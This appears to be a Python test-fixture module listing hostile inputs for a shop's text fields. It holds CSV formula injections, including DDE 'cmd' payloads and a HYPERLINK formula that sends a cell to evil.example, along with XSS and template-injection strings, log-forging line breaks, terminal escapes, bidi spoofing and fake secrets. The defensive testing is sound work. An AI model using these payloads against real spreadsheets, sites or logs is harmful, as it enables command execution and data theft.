"""What a provider, a shopper or an attacker may put into any text field (FAULTS.md, bad input: output)."""

from __future__ import annotations

FORMULAS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "+49 30 123456",
    "-2+3+cmd|' /C calc'!A0",
    "\t=1+1",
    " =1+1",
    "\u00a0=1+1",
    "\u200b=1+1",
    "\ufeff@x",
    "\uff1d1+1",  # full-width signs
    "\uff0b1",
    "\uff0d1",
    "\uff20x",
    "\ufe621",
    '=HYPERLINK("https://evil.example?"&A1,"Click")',
]
"""A spreadsheet would compute these."""

MARKUP = [
    "<script>alert(1)</script>",
    "</td><img src=x onerror=alert(1)>",
    '"><svg onload=alert(1)>',
    "' onmouseover='alert(1)",
    "javascript:alert(1)",
    "{{ 7*7 }}{% load x %}",
    "]]><!--",
    "<a href=//evil.example>",
]
"""A browser would run or follow these, if they stood in a page as they are."""

LINES = [
    "one\r\ntwo",
    "one\ntwo",
    "one\rtwo",
    "one\x0btwo\x0ctwo",
    "one\u2028two\u2029three",
    "one\x85two",
    '"\r\n"forged","row"',
    '\n{"event": "forged", "level": "info"}',
]
"""One line must stay one."""

TERMINAL = ["\x1b[31mred\x1b[0m", "\x1b]0;title\x07", "\x9b2J", "back\x08\x08space", "bell\x07", "\x1b[2J\x1b[H"]
"""A terminal would obey these."""

BIDI = ["\u202egnp.exe", "\u2066user\u2069 \u202b", "a\u202db", "\u200fx"]
"""These make a text read as another one."""

SECRETS = [
    "sk_test_51Hostile0000000000000000",  # pragma: allowlist secret
    "whsec_HostileHostileHostile",  # pragma: allowlist secret
    "4242 4242 4242 4242",
    "postgresql://shop:hunter2hunter2@db/shop",  # pragma: allowlist secret
    "Authorization: Bearer abcdefghijklmnop",  # pragma: allowlist secret
]
"""These are kept in no log and no clear column."""

TEXTS = [*FORMULAS, *MARKUP, *LINES, *TERMINAL, *BIDI]
